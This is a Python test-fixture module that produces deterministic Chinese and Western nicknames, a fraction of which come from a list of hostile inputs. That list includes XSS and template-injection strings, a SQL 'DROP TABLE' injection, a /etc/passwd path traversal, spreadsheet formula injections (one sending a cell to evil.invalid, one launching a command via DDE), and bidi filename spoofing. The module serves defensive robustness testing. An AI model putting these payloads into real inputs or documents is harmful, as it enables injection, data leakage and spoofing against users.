"""Names: ordinary ones, and ones that a careless console would choke on."""

from __future__ import annotations

from functools import lru_cache

__all__ = ["HOSTILE_TEXTS", "NICKNAMES", "nickname", "nickname_numbers"]

HOSTILE_TEXTS = (
    "<script>alert('nick')</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(2)>",
    "{{ 7*7 }}{% debug %}${7*7}",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    'O\'Brien "the \\ quote"',
    "'; DROP TABLE rooms; --",
    "\u202egnp.exe\u202c",
    "\u2066left\u2069 \u2067right\u2069 \u200fمرحبا",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u200b\u200b\u200b",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳",
    "Z̷̢̛͇̰͑̿a̸̛̱͌l̵̡̎g̷̱̈́o̴̜̍",
    "line one\nline two\r\nline three",
    "nul\x00bell\x07escape\x1b[31mred",
    "x" * 2000,
    "长" * 300,
    "",
    "   ",
    "null",
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "javascript:alert(3)",
    "../../etc/passwd",
    "𝕱𝖆𝖓𝖈𝖞 ｆｕｌｌｗｉｄｔｈ ①②③",
    "ﷺ\u0085\u2028next\u2029end",
)
NICKNAMES = 4801  # distinct nickname numbers; a prime, so that it shares no rhythm with anything else

_FAMILY = "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕"
_GIVEN = tuple(
    "伟|芳|娜|敏|静|丽|强|磊|军|洋|勇|艳|杰|娟|涛|明|超|霞|平|刚|桂英|子轩|雨桐|浩然|欣怡|梓涵|思远|嘉怡|"  # noqa: SIM905
    "宇航|晓明|建国|志强|海燕|文静|小龙|雪梅|国栋|春花|家豪|诗涵|一诺|沐宸|奕辰|可馨|俊杰|美玲|佳琪|天宇".split(
        "|"
    )
)
_WESTERN = tuple(
    "Alex|Ben|Chloe|Dana|Emil|Fatima|Grace|Hugo|Ines|Jonas|Kira|Liam|Maya|Noor|Olga|Pavel|Quinn|Rosa|"  # noqa: SIM905
    "Sami|Tess|Uma|Viktor|Wendy|Ximena|Yara|Zoe|Bruno|Carla|Diego|Elif".split("|")
)


@lru_cache(maxsize=NICKNAMES)
def nickname(number: int) -> str:
    """Return nickname 0 … NICKNAMES - 1: about one in forty is hostile, different numbers may share a name."""
    if number % 40 == 17:
        return HOSTILE_TEXTS[number // 40 % len(HOSTILE_TEXTS)]
    if number % 6 == 1:
        return f"{_WESTERN[number // 6 % len(_WESTERN)]} {chr(65 + number // 180 % 26)}."
    mixed = number * 1231 % NICKNAMES
    return _FAMILY[mixed % len(_FAMILY)] + _GIVEN[mixed // len(_FAMILY) % len(_GIVEN)]


@lru_cache(maxsize=1)
def _by_nickname() -> dict[str, tuple[int, ...]]:
    found: dict[str, list[int]] = {}
    for number in range(NICKNAMES):
        found.setdefault(nickname(number), []).append(number)
    return {name: tuple(numbers) for name, numbers in found.items()}


def nickname_numbers(name: str) -> tuple[int, ...]:
    """Return every nickname number with exactly this name, empty when nobody is called so.

    The first call takes some milliseconds.
    """
    return _by_nickname().get(name, ())
